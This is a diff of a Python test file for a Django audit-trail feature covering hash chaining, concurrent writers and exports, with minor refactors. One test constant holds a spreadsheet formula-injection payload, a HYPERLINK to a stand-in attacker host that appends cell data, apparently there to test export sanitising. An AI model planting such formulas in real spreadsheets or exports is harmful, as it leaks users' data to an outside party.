@@ -9,6 +9,7 @@ retention without breaking the chain of what is kept.
 
 import csv
 import io
+import itertools
 import json
 import threading
 from datetime import timedelta
@@ -29,7 +30,7 @@ from accounts import services as account_services
 from accounts.models import AuditChain, AuditEvent, AuditTrailImmutable
 from tests.support.access import last_code, link_token, make_share, make_study, sign_in
 
-MALLORY_BROWSER = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
+MALLORY_BROWSER = '=HYPERLINK("http://evil.example/"&A1,"click")'
 
 
 def run(*args: str) -> str:
@@ -65,7 +66,7 @@ class TestChain:
     def test_it_chains_every_event_to_the_one_before(self) -> None:
         events = some_events(4)
         assert events[0].prev_digest == ""
-        for before, after in zip(events, events[1:], strict=False):
+        for before, after in itertools.pairwise(events):
             assert after.prev_digest == before.digest
         assert AuditChain.objects.get().head_digest == events[-1].digest
         assert run("verify").strip() == "intact, 4 events"
@@ -163,7 +164,7 @@ def test_concurrent_writers_keep_one_unforked_chain() -> None:
             barrier.wait()
             for i in range(per_thread):
                 account_services.audit(AuditEvent.Action.VIEW, writer=n, i=i)
-        except BaseException as exc:  # noqa: BLE001 - reported below
+        except BaseException as exc:
             errors.append(exc)
         finally:
             connection.close()
@@ -235,7 +236,8 @@ def test_ndjson_export_parses_line_by_line(recipient_trail: dict[str, str]) -> N
         AuditEvent.objects.order_by("pk").values_list("pk", flat=True)
     )
     assert records[0]["action"] == AuditEvent.Action.SHARE_CREATED
-    assert {r["digest"] for r in records} == set(AuditEvent.objects.values_list("digest", flat=True))
+    digests = set(AuditEvent.objects.values_list("digest", flat=True))
+    assert {r["digest"] for r in records} == digests
 
 
 @pytest.mark.django_db
